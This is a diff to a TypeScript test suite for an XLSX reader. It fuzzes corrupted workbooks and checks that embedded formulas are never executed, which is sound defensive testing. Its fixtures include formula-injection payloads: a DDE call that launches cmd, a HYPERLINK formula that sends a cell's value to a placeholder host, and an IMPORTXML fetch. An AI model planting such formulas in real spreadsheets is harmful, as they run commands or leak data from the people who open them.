@@ -1,5 +1,5 @@
 import { describe, expect, it, vi } from 'vitest';
-import { readBytes, readSheet, refusalCode } from './fixtures/read-fixture.ts';
+import { type ReadSheet, readBytes, readSheet, refusalCode } from './fixtures/read-fixture.ts';
 import { buildChanged, buildXlsx, type XlsxFixture, xlsxParts } from './fixtures/xlsx-fixture.ts';
 import { buildZip } from './fixtures/zip-fixture.ts';
 import { REFUSAL_CODES } from './refusal.ts';
@@ -29,7 +29,30 @@ function dice(seed: number): (below: number) => number {
   };
 }
 
-const bits = ['<', '>', '/>', '&', '&lt;', '&#0;', '&#xFFFFFF;', '"', '<!--', ']]>', '<![CDATA[', '<?', '\u0000', '\uFFFE', '9999999999', '-1', '1e400', '<row>', '</c>', '<f>', ' r="ZZZZ9"', ' xmlns=""'];
+const bits = [
+  '<',
+  '>',
+  '/>',
+  '&',
+  '&lt;',
+  '&#0;',
+  '&#xFFFFFF;',
+  '"',
+  '<!--',
+  ']]>',
+  '<![CDATA[',
+  '<?',
+  '\u0000',
+  '\uFFFE',
+  '9999999999',
+  '-1',
+  '1e400',
+  '<row>',
+  '</c>',
+  '<f>',
+  ' r="ZZZZ9"',
+  ' xmlns=""',
+];
 
 /** One or several injuries: a byte changed, a stretch cut out or said twice, something put in, the end cut off. */
 function injured(data: Buffer, roll: (below: number) => number): Buffer {
@@ -74,29 +97,26 @@ describe('two thousand injured workbooks', () => {
   it('are each refused with a known sentence or read, within bounded memory', async () => {
     const codes: ReadonlySet<string> = new Set(REFUSAL_CODES);
     const told = { read: 0, refused: 0 };
+    const odd: string[] = [];
     let highest = 0;
     const before = process.memoryUsage().heapUsed;
     for (let seed = 0; seed < 2_000; seed += 1) {
       const result = await readBytes(mutation(seed));
-      if ('code' in result) {
-        expect(codes, `seed ${seed}: ${result.code}`).toContain(result.code);
-        told.refused += 1;
-      } else {
-        // A reading is right by its form: rows rise, no row is wider than a spreadsheet, every cell has its text.
-        for (const sheet of result.sheets)
-          for (const [at, row] of sheet.rows.entries()) {
-            expect(row.index, `seed ${seed}`).toBeGreaterThan(sheet.rows[at - 1]?.index ?? 0);
-            expect(row.cells.every((cell) => typeof cell.text === 'string'), `seed ${seed}`).toBe(true);
-          }
-        told.read += 1;
-      }
+      const refused = 'code' in result;
+      told[refused ? 'refused' : 'read'] += 1;
+      if (refused ? !codes.has(result.code) : !result.sheets.every(wellFormed)) odd.push(`seed ${seed}`);
       if (seed % 100 === 0) highest = Math.max(highest, process.memoryUsage().heapUsed - before);
     }
+    expect(odd).toEqual([]);
     expect(told.read).toBeGreaterThan(200);
     expect(told.refused).toBeGreaterThan(500);
     expect(highest).toBeLessThan(256 * 1_024 * 1_024);
   });
 });
+
+/** A reading is right by its form: rows rise, every cell has its text. */
+const wellFormed = ({ rows }: ReadSheet): boolean =>
+  rows.every((row, at) => row.index > (rows[at - 1]?.index ?? 0) && row.cells.every((cell) => typeof cell.text === 'string'));
 
 describe('broken XML', () => {
   const broken: [string, string][] = [
@@ -122,8 +142,8 @@ describe('broken XML', () => {
   it.each(broken)('%s: refused or left out in every part, never a crash', async (_name, xml) => {
     for (const file of files) {
       const told = await refusalCode(buildChanged(LEDGER, file, (part) => ({ ...part, data: xml })));
-      expect([...REFUSAL_CODES, 'read'], file).toContain(told);
-      if (file === 'xl/workbook.xml') expect(told, file).not.toBe('read');
+      const allowed: string[] = file === 'xl/workbook.xml' ? [...REFUSAL_CODES] : [...REFUSAL_CODES, 'read'];
+      expect(allowed, file).toContain(told);
     }
   });
 
@@ -140,7 +160,7 @@ describe('broken XML', () => {
 
 describe('what a workbook would like to have done', () => {
   const formulas = [
-    'cmd|\'/c calc\'!A0',
+    "cmd|'/c calc'!A0",
     'DDE("cmd","/c calc","x")',
     'HYPERLINK("http://example.invalid/?"&amp;A1,"点这里")',
     'IMPORTXML("http://example.invalid/","//a")',
@@ -150,8 +170,13 @@ describe('what a workbook would like to have done', () => {
   ];
 
   it.each(formulas)('%s is never done: the last value stays, and that it was a formula is told', async (formula) => {
-    const sheet = await readSheet(buildXlsx({ rows: `<row r="1"><c r="A1" t="str"><f>${formula}</f><v>旧值</v></c><c r="B1"><f>${formula}</f></c></row>` }));
-    expect(sheet.rows[0]?.cells).toMatchObject([{ value: '旧值', formula: true }, { value: null, formula: true }]);
+    const sheet = await readSheet(
+      buildXlsx({ rows: `<row r="1"><c r="A1" t="str"><f>${formula}</f><v>旧值</v></c><c r="B1"><f>${formula}</f></c></row>` }),
+    );
+    expect(sheet.rows[0]?.cells).toMatchObject([
+      { value: '旧值', formula: true },
+      { value: null, formula: true },
+    ]);
   });
 
   it('shared and array formulas give the values that were kept', async () => {
@@ -164,10 +189,16 @@ describe('what a workbook would like to have done', () => {
   it('links, macros, connections and comments beside the cells are left alone', async () => {
     const afterRows =
       '<hyperlinks><hyperlink ref="A1" r:id="rId9" location="Sheet1!A1"/></hyperlinks><oleObjects><oleObject progId="Package" shapeId="1" r:id="rId8"/></oleObjects><legacyDrawing r:id="rId7"/>';
-    const more = ['xl/connections.xml', 'xl/vbaProject.bin', 'xl/embeddings/oleObject1.bin', 'xl/comments1.xml', 'xl/queryTables/queryTable1.xml'].map(
-      (name) => ({ name, data: '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>' }),
+    const more = [
+      'xl/connections.xml',
+      'xl/vbaProject.bin',
+      'xl/embeddings/oleObject1.bin',
+      'xl/comments1.xml',
+      'xl/queryTables/queryTable1.xml',
+    ].map((name) => ({ name, data: '<!DOCTYPE x [<!ENTITY y "z">]><x>&y;</x>' }));
+    const sheet = await readSheet(
+      buildXlsx({ rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>户主</t></is></c></row>', afterRows, more }),
     );
-    const sheet = await readSheet(buildXlsx({ rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>户主</t></is></c></row>', afterRows, more }));
     expect(sheet.rows.map((row) => row.cells.map((cell) => cell.value))).toEqual([['户主']]);
   });
 
